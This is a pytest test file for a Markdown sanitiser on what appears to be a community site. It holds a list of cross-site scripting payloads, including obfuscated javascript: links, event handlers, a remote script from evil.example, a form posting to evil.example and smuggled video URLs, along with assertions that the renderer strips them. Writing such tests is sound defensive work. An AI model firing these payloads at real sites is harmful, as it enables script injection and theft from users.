"""User Markdown becomes safe HTML: formatting kept, every script path removed."""

from __future__ import annotations

import pytest

from community.markdown import markdown_filter, plain_text, render, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<object data='x.swf'></object>",
    "<embed src='x.swf'>",
    "<style>body{display:none}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<form action='https://evil.example'><input name=p></form>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="vbscript:msgbox(1)">x</a>',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_neutralised(attack):
    """No script, handler, frame, style or dangerous URL survives rendering."""
    html = render_markdown(f"Hello\n\n{attack}\n\nbye").lower()
    for forbidden in (
        "<script",
        "javascript:",
        "vbscript:",
        "onerror",
        "onload",
        "ontoggle",
        "<iframe",
        "<object",
        "<embed",
        "<style",
        "style=",
        "<form",
        "data:text",
    ):
        assert forbidden not in html, f"{forbidden} survived in {html}"
    assert "hello" in html and "bye" in html


def test_formatting_is_kept():
    """Headings, emphasis, lists, tables, code and safe links render as HTML."""
    html = render_markdown(
        "## Returns\n\n**Bold** and *soft*.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```\nprint('hi')\n```\n\n[Docs](https://example.com/docs) ![pic](https://example.com/a.png)"
    )
    for expected in (
        "<h2",
        "<strong>Bold</strong>",
        "<em>soft</em>",
        "<li>one</li>",
        "<table>",
        "<code>",
        'href="https://example.com/docs"',
        'src="https://example.com/a.png"',
    ):
        assert expected in html
    assert 'rel="nofollow noopener noreferrer ugc"' in html


def test_headings_get_prefixed_ids_and_a_table_of_contents_in_chinese():
    """CJK headings keep their characters in anchors, prefixed so they cannot clash."""
    rendered = render("## 如何办理退货\n\ntext\n\n### Refund times\n\nmore")
    assert 'id="h-如何办理退货"' in rendered.html
    assert rendered.toc[0]["name"] == "如何办理退货"
    assert rendered.toc[0]["children"][0]["id"] == "h-refund-times"


def test_huge_and_empty_inputs_do_not_fail():
    """Empty text is empty HTML; a very long text renders."""
    assert render_markdown("") == ""
    assert len(render_markdown("word " * 50_000)) > 200_000


def test_filter_and_plain_text():
    """The Jinja filter marks sanitised output safe; plain_text strips all markup."""
    assert str(markdown_filter("<b>x</b><script>y</script>")) == "<p><b>x</b></p>"
    assert plain_text("**退货** and *refund* <script>x</script> &amp; [link](https://a.b)") == (
        "退货 and refund & link"
    )


def test_user_content_never_sets_an_id_of_the_page_itself():
    """Attribute lists and same-page links get the `h-` prefix, so `#main` or `#m31` from a
    post can neither shadow the page's elements nor hide the next live message."""
    html = render_markdown(
        "# Hello {: #main }\n\n## Again {: #m31 }\n\n[skip](#main) [up](#h-hello)"
    )
    assert 'id="main"' not in html and 'id="m31"' not in html
    assert 'id="h-main"' in html and 'id="h-m31"' in html
    assert 'href="#h-main"' in html and 'href="#h-hello"' in html
    assert 'href="#h-h-' not in html


@pytest.mark.parametrize(
    "source",
    ["//evil.example/x.mp4", "/&#9;/evil.example/x.mp4", "/\t/evil.example/x.mp4",
     "https://evil.example/x.mp4", "javascript:alert(1)", "/\\evil.example/x.mp4"],
)  # fmt: skip
def test_a_video_plays_only_from_this_site(source):
    """Only a path on this site survives as a video's source, whatever a browser would make
    of the characters it drops (a tab turns `/\\t/host` into `//host`)."""
    video = f'<video src="{source}" poster="{source}" autoplay onplay="x()"></video>'
    html = render_markdown(video)
    assert "evil" not in html and "javascript" not in html and "src=" not in html
    assert "autoplay" not in html and "onplay" not in html and 'controls="controls"' in html
    kept = render_markdown('<video src="/kb/articles/a/files/tour.mp4"></video>')
    assert 'src="/kb/articles/a/files/tour.mp4"' in kept
